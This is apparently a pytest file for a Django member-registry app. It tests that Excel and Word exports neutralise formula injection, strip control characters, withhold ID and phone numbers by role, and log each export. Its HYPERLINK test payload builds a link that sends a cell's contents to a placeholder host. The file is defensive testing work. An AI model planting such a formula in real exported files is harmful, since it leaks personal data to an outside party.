"""Issue 12, point 4: exports never carry a live formula nor fail on a stored control character;
identity numbers and phones leave only with the right permission; every export is audited with
its row count."""

from __future__ import annotations

import io
import zipfile

import pytest
from auditlog.models import LogEntry
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from dangvu.registry.models import Member
from dangvu.reports.xlsx import IDENTITY_LEFT_OUT, members_workbook, safe_append, save_workbook
from tests.conftest import PASSWORD

HOSTILE = '=HYPERLINK("http://x.example/?"&B5,"Bấm vào đây")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def _rows(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))


@pytest.mark.parametrize("text", [HOSTILE, "+84912", "-1+2", "@SUM(A1)", "\tcmd", "\r=1"])
def test_formula_starts_become_text_cells(text):
    wb = Workbook()
    safe_append(wb.active, ["STT", text, 5])
    content = save_workbook(wb)
    cell = load_workbook(io.BytesIO(content)).active["B1"]
    assert cell.data_type == "s" and cell.value in (text, text.replace("\r", "\n"))
    assert "<f>" not in _sheet_xml(content)


def test_a_formula_written_directly_is_neutralised_on_save():
    wb = Workbook()
    wb.active["A1"] = "=1+1"  # openpyxl makes this a formula; the save guard turns it into text
    content = save_workbook(wb)
    assert "<f>" not in _sheet_xml(content)
    assert load_workbook(io.BytesIO(content)).active["A1"].value == "=1+1"


def test_control_characters_are_stripped_not_fatal():
    rows = [{"organization__code": "C1A", "full_name": "An\x01", "birth_date": None, "gender": "male",
             "ethnicity": "Kinh", "religion": "Không", "home_town": "Xã\x02 Hòa\x1f", "residence": HOSTILE,
             "phone": "0912", "cccd": None, "education": "", "political_theory": "", "occupation": "",
             "is_student": False, "admitted_on": None, "full_on": None, "card_number": "", "resident": True,
             "commune_official": False, "status": "full"}]
    content, count = members_workbook(rows, "Danh sách\x03", "Bộ lọc: \x04")
    assert count == 1
    data = _rows(content)
    assert data[0][0] == "Danh sách" and data[1][0] == "Bộ lọc: "
    assert data[4][1] == "An" and data[4][6] == "Xã Hòa" and data[4][7] == HOSTILE
    assert "<f>" not in _sheet_xml(content)


def _poison(tree) -> None:
    Member.objects.filter(pk=tree.inside.pk).update(home_town="Thôn\x01 Đông", residence=HOSTILE,
                                                    phone="0912345678", cccd="001080000001")


def _export(client, who: str, **params):
    assert client.login(username=who, password=PASSWORD)
    return client.get(reverse("registry:member_export"), params)


def test_member_export_with_stored_controls_and_formula(client, tree):
    _poison(tree)
    response = _export(client, "office", org="C1A")
    assert response.status_code == 200
    rows = _rows(response.content)
    header = rows[3]
    an = next(r for r in rows[4:] if r[1] == "Nguyễn Văn An")
    assert an[header.index("Quê quán")] == "Thôn Đông"
    assert an[header.index("Nơi cư trú")] == HOSTILE
    assert an[header.index("Số CCCD")] == "001080000001" and an[header.index("Điện thoại")] == "0912345678"
    assert "<f>" not in _sheet_xml(response.content)


def test_viewer_export_leaves_identity_out_and_says_so(client, tree):
    _poison(tree)
    page = (client.login(username="viewer", password=PASSWORD), client.get(reverse("registry:member_list")))[1]
    assert "không gồm số điện thoại và số CCCD" in page.content.decode()
    response = _export(client, "viewer", org="C1A")
    assert response.status_code == 200
    rows = _rows(response.content)
    assert IDENTITY_LEFT_OUT in rows[1][0]
    assert "Số CCCD" not in rows[3] and "Điện thoại" not in rows[3] and "Họ và tên" in rows[3]
    assert "001080000001" not in str(rows) and "0912345678" not in str(rows)
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).latest("pk")
    assert entry.additional_data["rows"] == 2 and entry.additional_data["identity"] is False


def test_secretary_may_export_identity_of_own_cell(client, tree):
    assert client.login(username="secretary", password=PASSWORD)
    assert "không gồm số điện thoại" not in client.get(reverse("registry:member_list")).content.decode()
    _poison(tree)
    rows = _rows(_export(client, "secretary").content)
    assert "Số CCCD" in rows[3]
    entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).latest("pk")
    assert entry.additional_data == {"export": "members.xlsx", "rows": 2, "filters": {}, "identity": True}


def test_identity_permission_by_role(tree):
    c1a = tree.orgs["C1A"]
    assert tree.users["office"].has_perm("registry.export_identity", c1a)
    assert tree.users["secretary"].has_perm("registry.export_identity", c1a)
    assert tree.users["admin"].has_perm("registry.export_identity", c1a)
    assert not tree.users["viewer"].has_perm("registry.export_identity", c1a)
    assert not tree.users["secretary"].has_perm("registry.export_identity", tree.orgs["C1B"])


WRITERS = ("members_workbook(", "published_workbook(", "plan_report_xlsx(", "plan_report_docx(",
           "apportionment_xlsx(", "comments_docx(", "tally_report_docx(")


def test_every_export_view_calls_log_export_with_rows():
    """Each view that answers a generated document records it, with a row count, in the same function."""
    import ast
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "dangvu"
    found = 0
    for path in list(root.glob("*/views*.py")) + list(root.glob("*/views/*.py")):
        for fn in (n for n in ast.walk(ast.parse(path.read_text(encoding="utf-8"))) if isinstance(n, ast.FunctionDef)):
            text = ast.unparse(fn)
            if any(w in text for w in WRITERS) and "import" not in text.split("(")[0]:
                found += 1
                assert "log_export(" in text and "rows" in text, f"{path.name}:{fn.name} is not audited"
    assert found == 6


def test_plan_reports_with_stored_controls_and_formulas(client, tree):
    """The plan reports (.docx and .xlsx) of a plan whose target holds ``\\x02`` and a leading ``=``."""
    from plans_world import PLAN_TEXT

    from dangvu.core.planparse import parse_text
    from dangvu.plans import services as ps
    from dangvu.plans.models import Target

    plan = ps.draft_from_parse(None, tree.orgs["C1A"], parse_text(PLAN_TEXT), "ke-hoach.txt", PLAN_TEXT)
    ps.confirm_all(None, plan)
    ps.save_plan(None, plan)
    target = ps.add_target(None, plan, text="Tỷ lệ đảng viên dự sinh hoạt", op=">=", value=90, unit="%")
    Target.objects.filter(pk=target.pk).update(text="=1+1 tỷ lệ\x02 dự họp")
    assert client.login(username="office", password=PASSWORD)
    before = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count()
    docx_file = client.get(reverse("plans:plan_report", args=[plan.pk, "docx"]))
    xlsx_file = client.get(reverse("plans:plan_report", args=[plan.pk, "xlsx"]))
    assert docx_file.status_code == 200 and xlsx_file.status_code == 200
    import docx

    text = "\n".join(c.text for t in docx.Document(io.BytesIO(docx_file.content)).tables for r in t.rows
                     for c in r.cells)
    assert "=1+1 tỷ lệ dự họp" in text
    ws = load_workbook(io.BytesIO(xlsx_file.content)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value == "=1+1 tỷ lệ dự họp"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert "<f>" not in _sheet_xml(xlsx_file.content)
    assert LogEntry.objects.filter(action=LogEntry.Action.ACCESS).count() == before + 2
